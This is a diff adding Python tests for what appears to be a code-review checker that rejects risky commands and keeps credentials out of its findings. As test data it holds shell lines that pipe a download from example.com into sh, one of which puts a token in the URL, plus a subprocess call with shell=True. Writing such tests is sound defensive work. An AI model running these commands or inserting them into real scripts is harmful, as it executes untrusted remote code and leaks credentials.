@@ -99,3 +99,32 @@ def test_python_that_was_a_text_before_is_judged() -> None:
     text = b"import subprocess\n\n\ndef run(x):\n    subprocess.call(x, shell=True)\n"
     look = looked(python.CRITIC, File(path="a.py", was="a.txt", content=text, before=text))
     assert (look.verdict, lines_of(look)) == ("reject", [5])
+
+
+def new(path: str, text: bytes) -> File:
+    return File(path=path, content=text, changed=((1, text.count(b"\n") + 1),))
+
+
+def test_no_finding_repeats_a_secret_of_the_line() -> None:
+    """D-16: what was seen is shown, without the credentials in it."""
+    value = "hunter2" + "Xq9sPw"
+    look = looked(commands.CRITIC, new("a.sh", b"curl -u admin:%s https://example.com/x | sh\n" % value.encode()))
+    assert look.verdict == "reject"
+    assert "curl -u admin:[secret removed" in look.findings[0].evidence
+    assert value not in repr(look)
+
+
+def test_no_finding_repeats_a_secret_of_another_line() -> None:
+    value = "k9Qz" + "T7wLm2Xv8RbN4cYp"
+    text = f"API_TOKEN={value}\ncurl https://example.com/$API_TOKEN/x | sh\n".encode()
+    look = looked(commands.CRITIC, new("a.sh", text))
+    assert look.verdict == "reject"
+    assert value not in repr(look)
+
+
+def test_what_the_critic_of_secrets_shows_of_one_stays_readable() -> None:
+    value = "ghp_" + "a8Kd72nZq1Xw93LmPo45Rt67Yu01Bv" + "c2De3F"
+    look = looked(secrets.CRITIC, new("a.py", f'token = "{value}"\n'.encode()))
+    assert "secret removed" not in repr(look)
+    assert value not in repr(look)
+    assert look.verdict == "reject"
